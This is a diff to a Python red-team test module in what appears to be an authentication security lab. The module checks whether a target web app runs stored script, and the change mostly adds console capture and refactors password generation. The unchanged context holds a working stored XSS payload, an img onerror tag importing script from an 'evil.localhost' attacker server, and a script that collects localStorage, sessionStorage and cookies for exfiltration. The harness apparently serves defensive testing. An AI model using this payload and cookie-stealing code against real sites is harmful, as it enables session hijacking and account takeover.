@@ -2,14 +2,12 @@
 
 import asyncio
 import re
-import secrets
 import time
 from dataclasses import dataclass
 
 from authlab.browser import Browser
 from authlab.insecure.comments import attacker
-from authlab.redteam.attack import Attack, Evidence, Stuck, Target, access_token
-from authlab.redteam.browsing import browse
+from authlab.redteam.attack import Attack, Evidence, Stuck, Target, access_token, new_password, public
 from authlab.server import Server
 
 _STEAL = """const kept = { ...localStorage, ...sessionStorage, cookies: document.cookie };
@@ -25,13 +23,14 @@ _INJECT = "markup => document.body.insertAdjacentHTML('beforeend', markup)"
 
 @dataclass(frozen=True)
 class _Visit:
-    """What came of a user's visit: `loot` is what arrived at the attacker's.
+    """What came of a user's visit: `loot` is what arrived at the attacker's, `said` the console's lines.
 
     `helped` where text of a user did not become markup by itself, and a hole had to be made for it.
     """
 
     name: str
     loot: list[str]
+    said: list[str]
     helped: bool
 
     def alive(self, got: str, response: str) -> Evidence:
@@ -40,7 +39,8 @@ class _Visit:
 
     def dead(self) -> Evidence:
         seen = "text stays text, and markup in the page runs no script"
-        return Evidence("dead", "a script ran, and got nothing" if self.loot else seen, self.name)
+        response = public([*self.loot, *self.said])[:200]
+        return Evidence("dead", "a script ran, and got nothing" if self.loot else seen, self.name, response)
 
 
 def _visit(target: Target, script: str) -> _Visit:
@@ -49,13 +49,13 @@ def _visit(target: Target, script: str) -> _Visit:
     with Server(attacker(loot, script + _SEND), name="an attacker") as evil:
         home = evil.at("evil.localhost").removeprefix("http:")
         name = f"<img src=x onerror=import('{home}/x.js')>"  # a name has 64 characters at most
-        user = {"username": name, "password": secrets.token_urlsafe(18)}
+        user = {"username": name, "password": new_password()}
         if (answer := target.ask("/auth/register", json=user)).status_code != 201:
             raise Stuck(f"no user could be registered: {answer.status_code}", answer)
         token = access_token(target.log_in(*user.values()))
         target.ask("/comments", token=token, data={"text": name})  # where there are any
 
-        async def log_in(browser: Browser) -> bool:
+        async def log_in(browser: Browser) -> tuple[list[str], bool]:
             tab = await browser.open(target.url)
             if not await tab.page.locator("#username").count():
                 raise Stuck("there is no page to log in by")
@@ -67,10 +67,10 @@ def _visit(target: Target, script: str) -> _Visit:
                 await tab.evaluate(_INJECT, name)
                 await tab.rest()
                 await _arrived(loot, evil)
-            return helped
+            return tab.console, helped
 
-        helped = browse(log_in)
-    return _Visit(name, loot, helped)
+        said, helped = target.browse(log_in)
+    return _Visit(name, loot, said, helped)
 
 
 async def _arrived(loot: list[str], evil: Server) -> bool:
